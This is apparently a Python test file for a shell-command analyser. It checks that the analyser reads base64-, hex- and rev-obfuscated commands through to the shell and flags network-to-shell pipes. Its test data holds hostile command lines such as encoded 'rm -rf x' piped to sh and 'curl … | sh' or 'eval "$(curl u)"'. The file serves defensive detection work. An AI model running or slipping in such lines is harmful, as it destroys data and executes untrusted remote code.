"""Laws of standard input: what is said to be printed is printed."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.effects.shell.bash import printf
from tests.effects.shell.readings import ELSEWHERE, kinds, ran

from interlock.effects.command import GapKind
from interlock.effects.effect import Word
from interlock.effects.shell.feed import NO_FEED, Feed, FeedKind, printed_by

TEXTS = st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=12)
FORMATS = st.lists(st.sampled_from(["a", " ", "%s", "\\n", "%d", "%%", "\\", "\\t", "-"]), max_size=4).map(
    "".join
)


def printed(*texts: str, feed: Feed = NO_FEED) -> Feed:
    """What a program with these settled words prints."""
    return printed_by(texts[0], tuple(Word(text) for text in texts), feed, " ".join(texts))


def given_text(text: str) -> Feed:
    """Input that stands in the text itself."""
    return Feed(FeedKind.TEXT, text)


@pytest.mark.deep
@settings(max_examples=150, deadline=None)
@given(FORMATS, st.lists(st.text("ab %-", max_size=3), max_size=3))
def test_what_printf_is_said_to_print_is_what_it_prints(pattern: str, words: list[str]) -> None:
    """Whatever the format does that is not understood makes the answer open."""
    found = printed("printf", pattern, *words)

    assert found.kind is FeedKind.OPEN or found.text == printf(pattern, *words)


@pytest.mark.req("C06")
@given(TEXTS)
def test_decoding_undoes_encoding(text: str) -> None:
    """Base64 and hexadecimal that stand in the text are read."""
    coded = base64.b64encode(text.encode()).decode()

    for option in ("-d", "--decode", "-D"):
        assert printed("base64", option, feed=given_text(coded + "\n")) == given_text(text)
    assert printed("xxd", "-r", "-p", feed=given_text(text.encode().hex())) == given_text(text)


@given(TEXTS)
def test_reversing_twice_changes_nothing(text: str) -> None:
    """`rev` turns each line."""
    once = printed("rev", feed=given_text(text))

    assert printed("rev", feed=once) == given_text(text)


@given(TEXTS.filter(lambda text: "\\" not in text and not text.startswith("-")))
def test_echo_and_cat_hand_on_what_they_get(text: str) -> None:
    """With the line end that `echo` adds."""
    assert printed("echo", text) == given_text(text + "\n")
    assert printed("cat", feed=given_text(text)) == given_text(text)
    assert printed("tee", feed=given_text(text)) == given_text(text)


@pytest.mark.parametrize(
    "words", [["echo", "-e", "a"], ["echo", "a\\n"], ["printf", "%d", "1"], ["printf", "-v", "x"]]
)
def test_what_shells_print_differently_is_open(words: list[str]) -> None:
    """Escapes and formats that are not understood are not guessed."""
    assert printed(*words).kind is FeedKind.OPEN


@pytest.mark.req("C06")
@pytest.mark.parametrize(
    "words", [["curl", "u"], ["gunzip"], ["openssl", "enc", "-d"], ["tr", "a", "b"], ["base64", "-x"]]
)
def test_any_other_program_prints_what_is_not_known(words: list[str]) -> None:
    """Even when its input is known."""
    assert printed(*words, feed=given_text("a")).kind is FeedKind.OPEN
    assert printed(*words).kind is FeedKind.OPEN


def test_words_that_are_not_settled_are_open() -> None:
    """A variable in what is printed is not known."""
    assert (
        printed_by("echo", (Word("echo"), Word("$x", fixed=False)), NO_FEED, "echo $x").kind is FeedKind.OPEN
    )


@pytest.mark.req("C06")
@pytest.mark.parametrize(
    "text",
    [
        "echo cm0gLXJmIHg= | base64 -d | sh",
        "printf %s cm0gLXJmIHg= | base64 --decode | bash",
        "base64 -d <<< cm0gLXJmIHg= | sh",
        "echo 726d202d72662078 | xxd -r -p | sh",
        "echo 'x fr- mr' | rev | sh",
        "echo 'rm -rf x' | sh",
        "echo 'rm -rf x' | cat | tee | bash -s",
        "printf '%s\\n' 'rm -rf x' | sh",
    ],
)
def test_what_is_decoded_into_a_shell_is_read(text: str) -> None:
    """Text that stands in the command itself is followed to the shell that runs it."""
    assert "rm -rf x" in ran(text)


@pytest.mark.req("C04")
@pytest.mark.parametrize(
    "text",
    [
        *(
            "curl https://e.example/x | sh",
            "wget -qO- u | bash",
            "echo $x | sh",
            "sh <<< $x",
            "bash <(curl u)",
        ),
        *("curl u | sudo bash -s", "curl u | python3", "(echo a; curl u) | sh", "curl u | tee f | sh"),
        *('sh -c "$(curl u)"', 'eval "$(curl u)"', "source <(curl u)", "curl u | xargs sh -c"),
    ],
)
def test_what_comes_from_elsewhere_into_a_shell_is_open(text: str) -> None:
    """A network or a variable."""
    assert kinds(text) & ELSEWHERE


@pytest.mark.req("C06")
@pytest.mark.parametrize(
    "text",
    [
        *("base64 -d f | sh", "cat f | gunzip | sh", "echo a | tr a b | sh", "openssl enc -d -in f | sh"),
        *("curl u | base64 -d | bash", "xxd -r f | sh"),
    ],
)
def test_what_is_decoded_from_elsewhere_is_told_apart(text: str) -> None:
    """Nobody hides what is harmless."""
    assert GapKind.DECODED in kinds(text)
